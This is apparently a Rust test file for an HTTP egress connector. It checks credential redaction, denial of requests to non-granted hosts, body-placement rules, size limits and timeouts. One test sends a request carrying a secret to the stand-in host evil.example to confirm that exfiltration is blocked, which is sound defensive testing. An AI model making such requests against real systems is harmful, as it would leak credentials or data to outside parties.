use super::super::ProbeError;
use super::app::App;
use super::*;

const WITHIN: Duration = Duration::from_secs(5);

async fn probe(
    app: &App,
    url: &str,
    placements: &[Placement],
    within: Duration,
) -> Result<http::Response<Bytes>, ProbeError> {
    let request = http::Request::get(url).body(Bytes::new()).unwrap();
    let grant = grant("acme", &[&app.url("/")], placements);
    egress_to(app.address).probe(&grant, None, request, within, 4096).await
}

#[tokio::test]
async fn the_server_has_the_connections_credentials_and_does_not_see_them_again() {
    let app = App::start().await;
    let response = probe(&app, &app.url("/reflect"), &bearer(), WITHIN).await.unwrap();
    let text = String::from_utf8(response.into_body().to_vec()).unwrap();
    assert!(text.contains("\nauthorization: [redacted]\n"), "{text}");
}

#[tokio::test]
async fn the_server_gets_no_further_than_a_connector() {
    let app = App::start().await;
    let told = |result: Result<http::Response<Bytes>, ProbeError>| result.unwrap_err().to_string();
    let elsewhere = told(probe(&app, "https://evil.example/?q=secret", &bearer(), WITHIN).await);
    assert!(elsewhere.contains("a request to evil.example was denied") && !elsewhere.contains("secret"), "{elsewhere}");
    let body = [Placement::Body { pointer: "/key".into(), value: "${secret.token}".into() }];
    let bodiless = told(probe(&app, &app.url("/reflect"), &body, WITHIN).await);
    assert!(bodiless.contains("a GET without one cannot be authenticated"), "{bodiless}");
    assert_eq!(app.requests(), 0);
    let endless = probe(&app, &app.url("/endless"), &bearer(), WITHIN).await.unwrap_err();
    assert!(matches!(endless, ProbeError::TooLarge(4096)), "{endless}");
    let soon = Duration::from_millis(100);
    let stalling = probe(&app, &app.url("/stall-body"), &bearer(), soon).await.unwrap_err();
    assert!(matches!(stalling, ProbeError::Timeout(_)), "{stalling}");
}
